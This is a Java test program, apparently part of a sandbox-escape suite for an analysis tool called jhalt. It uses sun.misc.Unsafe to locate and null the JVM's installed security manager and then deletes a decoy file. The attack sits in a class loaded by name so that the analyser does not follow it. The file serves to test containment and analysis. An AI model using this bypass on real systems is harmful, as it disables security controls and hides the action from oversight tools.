// Removes the installed security manager with sun.misc.Unsafe: System's static field
// that holds it (System.security on JDK 17, hidden from reflection) is found by its value
// among System's static reference fields and set to null; then deletes a file of its decoy.
// One program of the escape suite (tests/witness/test_escape.py).
import java.lang.reflect.Field;
import java.lang.reflect.Modifier;
import java.nio.file.Files;
import sun.misc.Unsafe;

public class EscapeUnsafe {
    /** Tries the attack (class Attempt, loaded by name: jhalt's analysis does not follow it),
     *  then divides by args.length (check: args = {} throws ArithmeticException here) and
     *  loops forever (prove: args = {""} never leaves the loop). */
    public static void main(String[] args) {
        try {
            Class.forName("EscapeUnsafe$Attempt");
        } catch (Throwable ignored) {
        }
        int step = 10 / args.length;
        while (step > 0) {
            try {
                Thread.sleep(50);
            } catch (Throwable ignored) {
            }
        }
    }

    static final class Attempt {
        static {
            try {
                Field field = Unsafe.class.getDeclaredField("theUnsafe");
                field.setAccessible(true);
                Unsafe unsafe = (Unsafe) field.get(null);
                Object manager = System.getSecurityManager();
                if (manager != null) {
                    unset(unsafe, manager);
                }
            } catch (Throwable ignored) {
            }
            try {
                Files.delete(EscapeTarget.decoy("unsafe").resolve("a.txt"));
            } catch (Throwable ignored) {
            }
            EscapeTarget.attempted("unsafe");
        }

        /** Nulls the static reference field of System that holds manager. Compares raw slot
         *  contents (never reads a non-reference slot as a reference). */
        private static void unset(Unsafe unsafe, Object manager) {
            Object statics = null;
            long low = Long.MAX_VALUE;
            long high = Long.MIN_VALUE;
            for (Field field : System.class.getDeclaredFields()) {
                if (Modifier.isStatic(field.getModifiers()) && !field.getType().isPrimitive()) {
                    statics = unsafe.staticFieldBase(field);
                    low = Math.min(low, unsafe.staticFieldOffset(field));
                    high = Math.max(high, unsafe.staticFieldOffset(field));
                }
            }
            int scale = unsafe.arrayIndexScale(Object[].class);
            Object[] box = {manager};
            long at = unsafe.arrayBaseOffset(Object[].class);
            long wanted = scale == 4 ? unsafe.getInt(box, at) : unsafe.getLong(box, at);
            for (long offset = Math.max(0, low - 4L * scale); offset <= high + 4L * scale; offset += scale) {
                long seen = scale == 4 ? unsafe.getInt(statics, offset) : unsafe.getLong(statics, offset);
                if (seen == wanted) {
                    unsafe.putObject(statics, offset, null);
                    return;
                }
            }
        }
    }
}
